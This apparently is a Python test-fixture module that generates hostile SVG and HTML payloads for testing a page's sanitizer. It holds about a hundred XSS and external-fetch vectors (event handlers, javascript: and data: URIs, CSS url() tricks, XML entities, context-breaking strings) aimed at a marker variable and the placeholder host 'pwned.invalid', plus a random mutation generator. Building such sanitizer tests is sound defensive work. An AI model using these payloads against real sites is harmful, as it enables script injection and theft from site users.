"""Figures and strings that try to run a script or to fetch something, for the tests of the page.

What runs sets ``top.__pwned``; what is fetched is at ``http://pwned.invalid``.
"""

from __future__ import annotations

import base64
import random

XHTML = "http://www.w3.org/1999/xhtml"
RUN = "top.__pwned=1"
URL = "http://pwned.invalid/x"
RECT = '<rect width="10" height="10"/>'
_INNER = (
    f"<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
)
_CODED = base64.b64encode(_INNER.encode()).decode()
_ESCAPED = _INNER.replace("<", "&lt;").replace('"', "&quot;")

SVG_BODIES = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<sCrIpT>{RUN}</sCrIpT>",
    f'<script href="data:text/javascript,{RUN}"/>',
    f'<script xlink:href="data:text/javascript,{RUN}"/>',
    f'<script href="{URL}"/>',
    f"<h:script>{RUN}</h:script>",
    f"<x:script xmlns:x='urn:x'>{RUN}</x:script>",
    f'<g onload="{RUN}"/>',
    f'<svg onload="{RUN}"/>',
    f'<svg ONLOAD="{RUN}"/>',
    f'<image href="data:image/png;base64,AAAA" onerror="{RUN}"/>',
    f'<IMAGE HREF="{URL}" ONERROR="{RUN}"/>',
    f'<rect width="10" height="10" onclick="{RUN}" onmouseover="{RUN}" onfocus="{RUN}"/>',
    f'<rect width="10" height="10" x:onclick="{RUN}" xmlns:x="urn:x"/>',
    f'<g tabindex="1" autofocus="" onfocus="{RUN}">{RECT}</g>',
    f'<a href="javascript:{RUN}">{RECT}</a>',
    f'<a xlink:href="javascript:{RUN}">{RECT}</a>',
    f'<A HREF="javascript:{RUN}">{RECT}</A>',
    f'<h:a href="javascript:{RUN}">{RECT}</h:a>',
    f'<a href="&#106;avascript:{RUN}">{RECT}</a>',
    f'<a href="java&#10;script:{RUN}">{RECT}</a>',
    f'<a href=" javascript:{RUN}">{RECT}</a>',
    f'<a href="data:text/html,&lt;script>{RUN}&lt;/script>">{RECT}</a>',
    f'<a><animate attributeName="href" values="javascript:{RUN}" fill="freeze"/>{RECT}</a>',
    f'<a><animate attributeName="xlink:href" to="javascript:{RUN}" dur="1s"/>{RECT}</a>',
    f'<a><set attributeName="href" to="javascript:{RUN}"/>{RECT}</a>',
    f'<image><set attributeName="href" to="{URL}"/></image>',
    f'<animate onbegin="{RUN}" attributeName="x" dur="1s"/>',
    f'<rect width="1" height="1"><set onbegin="{RUN}" attributeName="x" to="1"/></rect>',
    f'<animateTransform onend="{RUN}" attributeName="transform" dur="0.01s" by="1"/>',
    f'<animateMotion onbegin="{RUN}" dur="1s"/>',
    f'<discard onbegin="{RUN}" begin="0s"/>',
    f'<foreignObject width="9" height="9"><h:img src="{URL}" onerror="{RUN}"/></foreignObject>',
    f'<foreignobject><h:img src="x" onerror="{RUN}"/></foreignobject>',
    f'<h:iframe src="javascript:{RUN}"/>',
    f'<h:iframe srcdoc="&lt;script>{RUN}&lt;/script>"/>',
    f'<foreignObject><h:iframe src="{URL}"/></foreignObject>',
    f'<iframe srcdoc="&lt;script>{RUN}&lt;/script>"/>',
    f'<h:object data="data:text/html,{_ESCAPED}"/>',
    f'<h:embed src="{URL}"/>',
    f'<h:img src="{URL}" onerror="{RUN}"/>',
    f'<img src="x" onerror="{RUN}"/>',
    f'<h:video src="{URL}"><h:source onerror="{RUN}"/></h:video>',
    f'<h:form action="javascript:{RUN}"><h:input autofocus="" onfocus="{RUN}"/></h:form>',
    f'<h:base href="{URL}"/>',
    f'<h:meta http-equiv="refresh" content="0;url={URL}"/>',
    f'<meta http-equiv="refresh" content="0;url={URL}"/>',
    f'<h:link rel="stylesheet" href="{URL}"/>',
    f'<link rel="stylesheet" href="{URL}"/>',
    f'<h:details open="" ontoggle="{RUN}">x</h:details>',
    f'<p>x</p><img src="x" onerror="{RUN}"/>',
    f'<table><img src="{URL}" onerror="{RUN}"/></table>',
    f'<title><h:img src="x" onerror="{RUN}"/></title>',
    f'<desc><img src="x" onerror="{RUN}"/></desc>',
    f'<use href="data:image/svg+xml;base64,{_CODED}#x"/>',
    f'<use xlink:href="{URL}#x"/>',
    f'<use href="#in"/><g id="in"><image href="{URL}"/></g>',
    f'<image href="{URL}" width="9" height="9"/>',
    f'<image xlink:href="{URL}" width="9" height="9"/>',
    '<image href="//pwned.invalid/x" width="9" height="9"/>',
    f'<image href="data:image/svg+xml;base64,{_CODED}" width="9" height="9"/>',
    f'<image href="data:text/html,{_ESCAPED}" width="9" height="9"/>',
    f'<image href="data:image/png,x" xlink:href="{URL}" width="9" height="9"/>',
    f'<filter id="f"><feImage href="{URL}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    f"<style>@import url({URL});</style>",
    f"<style>@import '{URL}';</style>",
    f"<STYLE>* {{ background: url({URL}) }}</STYLE>",
    f"<h:style>body {{ background: url({URL}) }}</h:style>",
    f'<rect width="9" height="9" style="fill: url({URL}#x)"/>',
    f'<rect width="9" height="9" style="background: url({URL})"/>',
    f'<rect width="9" height="9" style="mask: url({URL}#x); filter: url({URL}#y)"/>',
    f'<rect width="9" height="9" style="fill: u\\72l({URL}#x)"/>',
    f'<rect width="9" height="9" style="fill: url/**/({URL}#x)"/>',
    f'<rect width="9" height="9" style="--x: url({URL}); background: var(--x)"/>',
    f'<rect width="9" height="9" style="background: image-set(\'{URL}\' 1x)"/>',
    f'<rect width="9" height="9" style="fill: red; cursor: url({URL}), auto"/>',
    f'<rect width="9" height="9" fill="url({URL}#x)" stroke="url({URL}#x)"/>',
    f'<rect width="9" height="9" fill="url(\'{URL}#x\')"/>',
    f'<rect width="9" height="9" clip-path="url({URL}#x)" mask="url({URL}#x)"/>',
    f'<rect width="9" height="9" filter="url({URL}#x)" cursor="url({URL})"/>',
    f'<path d="M0 0L9 9" marker-start="url({URL}#x)" marker="url({URL}#x)"/>',
    f'<path d="M0 0&quot; onclick=&quot;{RUN}"/>',
    f'<g id="&quot;>&lt;script>{RUN}&lt;/script>"/>',
    f'<g style="&quot;>&lt;script>{RUN}&lt;/script>"/>',
    f"<text>&lt;/svg>&lt;script>{RUN}&lt;/script></text>",
    f"<text><![CDATA[</text></svg><script>{RUN}</script>]]></text>",
    f"<!-- --><![CDATA[--><script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='{URL}'?><?php echo '<script>{RUN}</script>'?>",
    f'<linearGradient id="l" href="{URL}#x"/><rect width="9" height="9" fill="url(#l)"/>',
    f'<pattern id="q" xlink:href="{URL}#x"/><rect width="9" height="9" fill="url(#q)"/>',
    f'<text><textPath href="{URL}#x">x</textPath><tref xlink:href="{URL}#x"/></text>',
    f'<font-face><font-face-src><font-face-uri href="{URL}"/></font-face-src></font-face>',
    f'<g xml:base="{URL}"><image href="x" width="9" height="9"/></g>',
    f'<handler type="text/javascript">{RUN}</handler><listener handler="javascript:{RUN}"/>',
    f'<g style="animation: blink 1s; position: fixed" onanimationstart="{RUN}"/>',
    f'<switch><foreignObject><h:body onload="{RUN}"/></foreignObject></switch>',
    f'<math><mtext><h:img src="x" onerror="{RUN}"/></mtext></math>',
    '<g id="points"/><g id="announcement"/><g id="scatter-plot"/>',
)
SVG_WHOLE = (
    f"<!DOCTYPE svg [<!ENTITY x '<script>{RUN}</script>'>]><svg SPACES>&x;</svg>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{URL}'>]><svg SPACES>&x;</svg>",
    f"<!DOCTYPE svg SYSTEM '{URL}'><svg SPACES>{RECT}</svg>",
    f"<?xml-stylesheet type='text/css' href='{URL}'?><svg SPACES>{RECT}</svg>",
    f'<svg SPACES onload="{RUN}" onclick="{RUN}" style="background: url({URL})">{RECT}</svg>',
    f"<h:html xmlns:h='{XHTML}'><h:body><h:script>{RUN}</h:script></h:body></h:html>",
    f"<html xmlns='{XHTML}'><body><iframe src='{URL}'/><script>{RUN}</script></body></html>",
    f"<svg SPACES><metadata><dc:title>&lt;img src=x onerror='{RUN}'></dc:title></metadata></svg>",
    f'<svg SPACES><metadata><dc:title>x" onload="{RUN}</dc:title></metadata></svg>',
    f"<script>{RUN}</script>",
    f"GIF89a<svg onload={RUN}>",
)
STRINGS = (
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"--></style><img src={URL} onerror={RUN}>",
    f"\"><img src=x onerror='{RUN}'>",
    f"' onmouseover='{RUN}' x='",
    f"</title></textarea></td></table><svg/onload={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"javascript:{RUN}",
    f"\u2028\u2029\u202e\x07</script\t><SCRIPT/x>{RUN}</SCRIPT>",
    f"{{{{ 7 * 7 }}}}{{% raw %}}<iframe srcdoc='<script>{RUN}</script>'>",
    f"\\u003cscript>{RUN}\\u003c/script>]]>",
    f"`${{{RUN}}}`;{RUN};//",
)


def hostile_svgs() -> list[str]:
    """Every SVG of the lists, as a file of it would be."""
    spaces = " ".join(
        (
            'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"',
            f'xmlns:h="{XHTML}" xmlns:dc="http://purl.org/dc/elements/1.1/"',
        )
    )
    bodies = [f'<svg {spaces} viewBox="0 0 10 10">{body}</svg>' for body in SVG_BODIES]
    bare = [f"<svg xmlns:xlink='urn:x' xmlns:h='{XHTML}'>{body}</svg>" for body in SVG_BODIES]
    return [*bodies, *bare, *(whole.replace("SPACES", spaces) for whole in SVG_WHOLE)]


def mutated_svgs(seed: int, count: int) -> list[str]:
    """Random trees of elements, attributes and values that the lists are made of."""
    rng = random.Random(seed)
    names = "script SCRIPT a A g use image IMAGE rect path text style foreignObject svg set animate"
    names += " title desc iframe img pattern clipPath defs h:script h:iframe h:img h:a h:svg switch"
    keys = "href HREF xlink:href onload onclick ONLOAD onbegin onerror style fill clip-path filter"
    keys += " mask id src srcdoc to values attributeName transform d class xml:base begin"
    values = [
        *(f"javascript:{RUN}", RUN, URL, f"url({URL}#x)", "#x", "x", "href", "0s", "1"),
        *(f"data:image/svg+xml;base64,{_CODED}", f"fill: url({URL})", "url(#x)", _ESCAPED),
        *(f"data:text/html;base64,{_CODED}", f"background: url({URL}); fill: red", "translate(1)"),
        *(f"java&#9;script:{RUN}", f"&lt;/svg>&lt;script>{RUN}&lt;/script>", f"@import '{URL}';"),
    ]

    def element(depth: int) -> str:
        name = rng.choice(names.split())
        chosen = rng.sample(keys.split(), rng.randint(0, 5))
        attributes = "".join(f' {key}="{rng.choice(values)}"' for key in chosen)
        inside = "".join(element(depth + 1) for _ in range(rng.randint(0, 3) if depth < 4 else 0))
        return f"<{name}{attributes}>{rng.choice(('', RUN, rng.choice(values)))}{inside}</{name}>"

    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    opened = f'<svg {spaces} xmlns:h="{XHTML}" viewBox="0 0 10 10">'
    return [
        opened + "".join(element(0) for _ in range(rng.randint(1, 6))) + "</svg>"
        for _ in range(count)
    ]
